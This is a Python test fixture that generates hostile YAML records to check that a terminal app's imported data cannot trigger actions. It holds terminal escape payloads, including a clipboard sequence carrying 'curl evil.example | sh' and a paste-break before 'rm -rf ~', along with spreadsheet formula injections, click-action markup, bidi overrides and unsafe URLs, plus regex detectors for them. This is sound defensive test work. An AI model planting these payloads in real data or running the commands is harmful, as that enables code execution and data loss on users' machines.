"""A hostile fixture: records whose text tries to act (markup with @click actions, terminal escapes, bidi
controls, spreadsheet formulas) and URLs that must never reach a browser. Imported through `regterm import`."""

from __future__ import annotations

import base64
import re
from pathlib import Path
from typing import Any

import yaml

ESC = "\x1b"
OSC52 = f"{ESC}]52;c;{base64.b64encode(b'curl evil.example | sh').decode()}\x07"  # sets the clipboard
OSC0 = f"{ESC}]0;pwned\x07"  # sets the window title
CSI = f"{ESC}[2J{ESC}[6n"  # clears the screen, asks the terminal to answer
PASTE_END = f"{ESC}[201~"  # ends bracketed paste: what follows runs as typed
C1_CSI = "\x9b31m"  # the one-byte CSI
BIDI = "\u202e"  # right-to-left override
PAYLOADS = (OSC52, OSC0, CSI, PASTE_END, C1_CSI, BIDI)

# What must never reach a terminal, clipboard or file from data (the styling Textual adds is CSI ... m, H).
RAW = re.compile(
    "\x1b\\]|\x1b\\[2J|\x1b\\[6n|\x1b\\[201~|\x07|[\x80-\x9f]|[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]"
)
# What a copy may hold: no control character but newline and tab.
CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")

CLICK_NAME = "[@click=app.screenshot('existing.txt','{dir}')]Over Co[/]"
QUIT_NAME = "[@click=app.quit]Quit Co[/]"
SLASH_NAME = "Slash [/x] Co"
EU_NAME = "Brackets Co [the EU]"
BIDI_NAME = f"Bidi {BIDI}oC idiB"
ESCAPE_NAME = f"Title Co{OSC0}{OSC52}"
QUOTE_TEXT = f"Paste this{PASTE_END}\nrm -rf ~{OSC52}{OSC0}{CSI} {C1_CSI}red {BIDI}txet"
FORMULAS = ('=HYPERLINK("https://evil.example","click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)")

BAD_URLS = (
    f"https://example.org/{OSC52}",
    f"https://example.org/{OSC0}",
    f"https://example.org/{C1_CSI}",
    f"https://example.org/{BIDI}x",
    "https://example.org/a b",
    "file:///etc/passwd",
    "javascript:alert(1)",
    "--new-window https://example.org",
    "https://",
)


def hostile_document(screenshot_dir: Path) -> dict[str, Any]:
    """Records to import on top of the tiny dataset (they link to its slugs)."""
    source = "hostile-source"
    return {
        "sources": [
            {
                "slug": source,
                "url": "https://example.org/hostile",
                "publisher": f"Hostile {OSC0}Press",
                "title": f"A story{CSI}",
                "published": "2026-11-01",
                "primary": False,
            }
        ],
        "companies": [
            {"slug": "over-co", "name": CLICK_NAME.format(dir=screenshot_dir), "kind": "company", "country": "FR"},
            {"slug": "quit-co", "name": QUIT_NAME, "kind": "company"},
            {"slug": "slash-co", "name": SLASH_NAME, "kind": "company"},
            {"slug": "brackets-co", "name": EU_NAME, "kind": "company"},
            {"slug": "bidi-co", "name": BIDI_NAME, "kind": "company"},
            {"slug": "title-co", "name": ESCAPE_NAME, "kind": "company", "website": "https://example.org/title-co"},
        ],
        "disputes": [
            {
                "slug": f"formula-{index}",
                "title": formula,
                "companies": ["title-co"],
                "regulator": "european-commission",
                "regulations": ["dma"],
                "legal_basis": formula,
                "status": "open",
                "opened": "2026-01-01",
                "summary": formula,
                "sources": [source],
            }
            for index, formula in enumerate(FORMULAS)
        ],
        "quotes": [
            {
                "slug": "hostile-quote",
                "text": QUOTE_TEXT,
                "organisation": "title-co",
                "said": "2026-11-01",
                "context": f"Context{BIDI} with {C1_CSI}",
                "companies": ["title-co"],
                "source": source,
            }
        ],
    }


def write_yaml(document: dict[str, Any], path: Path) -> Path:
    path.write_text(yaml.safe_dump(document, allow_unicode=True, sort_keys=False), encoding="utf-8")
    return path
